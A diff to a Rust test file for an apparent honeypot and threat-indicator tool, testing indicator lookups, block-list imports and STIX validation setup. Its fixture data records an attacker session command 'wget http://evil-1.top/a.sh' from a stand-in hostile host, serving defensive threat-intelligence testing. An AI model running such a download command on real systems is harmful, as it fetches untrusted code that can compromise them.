@@ -125,6 +125,55 @@ fn a_feed_loses_the_events_it_has_no_more_and_nothing_else() {
     assert_eq!(export(&[]).len(), whole.len() + 1);
 }
 
+#[test]
+fn one_indicator_is_told_with_its_sensors_days_events_and_commands() {
+    let home = home();
+    let told = home.json(Exit::Done, &["indicators", "show", "hxxp://evil-1[.]top/a.sh"]);
+    assert_eq!(told["value"], "http://evil-1.top/a.sh");
+    let kinds = told["kinds"].as_array().expect("a list");
+    assert_eq!(kinds.len(), 1, "{told:#}");
+    assert_eq!((&kinds[0]["sensors"], &kinds[0]["days"]), (&json!([["pot", 2]]), &json!([["2026-03-22", 2]])));
+    assert_eq!(told["sightings"].as_array().map(Vec::len), Some(2));
+    let session = &told["sessions"][0];
+    assert_eq!(
+        (&session["id"], &session["commands"][0], &session["more"]),
+        (&json!("0123456789ab"), &json!("wget http://evil-1.top/a.sh"), &json!(false))
+    );
+    assert_eq!(session["commands"].as_array().map(Vec::len), Some(8));
+    let file = home.json(Exit::Done, &["indicators", "show", &"9A2B1C".repeat(11)[..64]]);
+    assert_eq!(
+        (&file["kinds"][0]["indicator"]["kind"], file["sightings"].as_array().map(Vec::len)),
+        (&json!("shasum"), Some(1)),
+        "{file:#}"
+    );
+    {
+        let _daemon = Daemon::start(&home);
+        assert_eq!(home.json(Exit::Done, &["indicators", "show", "http://evil-1.top/a.sh"]), told);
+        assert!(format!("{:#}", home.fails(&["indicators", "show", "evil.nowhere"])).contains("no indicator"));
+    }
+    let page = home.expect(Exit::Done, &["indicators", "show", "185.220.101.1"]);
+    assert!(page.contains("185[.]220[.]101[.]1") && page.contains("by sensor  pot 5") && page.contains("session 0123456789ab"), "{page}");
+}
+
+#[test]
+fn what_an_outside_list_knows_is_marked_and_scores_higher() {
+    let home = home();
+    let row = || find(&home.json(Exit::Done, &["indicators", "list", "--limit", "10000"]), "domain", "evil-9.top").clone();
+    let before = row();
+    assert!(before["known_in"].is_null(), "{before}");
+    let list = home.write("list.txt", b"# theirs\nevil-9[.]top\n10.0.0.0/8\n");
+    let import = |file: &Path| home.json(Exit::Done, &["indicators", "import", &file.to_string_lossy(), "--name", "theirs"]);
+    assert_eq!(import(&list), json!({ "values": 1, "skipped": 1 }));
+    let daemon = Daemon::start(&home);
+    let known = row();
+    assert_eq!((&known["known_in"], known["score"].as_u64()), (&json!(["theirs"]), before["score"].as_u64().map(|score| score + 10)));
+    // A running daemon sees the list that takes its place.
+    assert_eq!(import(&home.write("empty.txt", b"")), json!({ "values": 0, "skipped": 0 }));
+    assert_eq!(row(), before);
+    drop(daemon);
+    assert!(home.fails(&["indicators", "import", &list.to_string_lossy(), "--name", "../x"]).to_string().contains("--name"));
+}
+
 /// A Python with both readers, or why there is none.
 fn python() -> Result<PathBuf, String> {
     let venv = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("indicator-readers");
@@ -137,12 +186,12 @@ fn python() -> Result<PathBuf, String> {
         Ok(output) => Err(format!("{what}: {}", last_line(&output))),
         Err(error) => Err(format!("{what}: {error}")),
     };
-    let imports = "import stix2validator, pymisp";
+    let imports = "import stix2validator, pymisp, importlib.metadata as all; assert all.version('stix2-validator') == '3.2.0'";
     if run(Command::new(&python).args(["-c", imports]), "import").is_ok() {
         return Ok(python);
     }
     run(Command::new("python3").args(["-m", "venv", "--clear"]).arg(&venv), "python3 -m venv failed, is python3-venv installed?")?;
-    let install = ["-m", "pip", "install", "--quiet", "--disable-pip-version-check", "stix2-validator>=3.2,<4", "pymisp>=2.5,<2.6"];
+    let install = ["-m", "pip", "install", "--quiet", "--disable-pip-version-check", "stix2-validator==3.2.0", "pymisp>=2.5,<2.6"];
     run(Command::new(&python).args(install), "pip cannot install stix2-validator and pymisp")?;
     run(Command::new(&python).args(["-c", imports]), "the readers cannot be imported")?;
     Ok(python)
@@ -160,9 +209,13 @@ fn passes(python: &Path, script: &str, argument: &Path) {
     println!("{}", told(&output.stdout));
 }
 
-/// The validator checks the schema, the rules of the text that a schema cannot tell, and the grammar of each pattern.
+/// The validator checks the schema, the rules of the text that a schema cannot tell, and the grammar of each pattern. It comes with the
+/// schemas (3.3.1 does not), but newer ones of its libraries would fetch them; here they are read from where they lie.
 const STIX: &str = r#"
-import json, sys
+import json, os, sys
+import jsonschema, stix2validator
+schemas = os.path.join(os.path.dirname(stix2validator.__file__), "schemas-2.1", "schemas")
+jsonschema.validators.RefResolver.resolve_remote = lambda self, uri: json.load(open(os.path.join(schemas, uri.split("/schemas/", 1)[1])))
 from stix2validator import ValidationOptions, print_results, validate_file
 results = validate_file(sys.argv[1], ValidationOptions(version="2.1", strict_types=True, strict_properties=True))
 print_results([results])
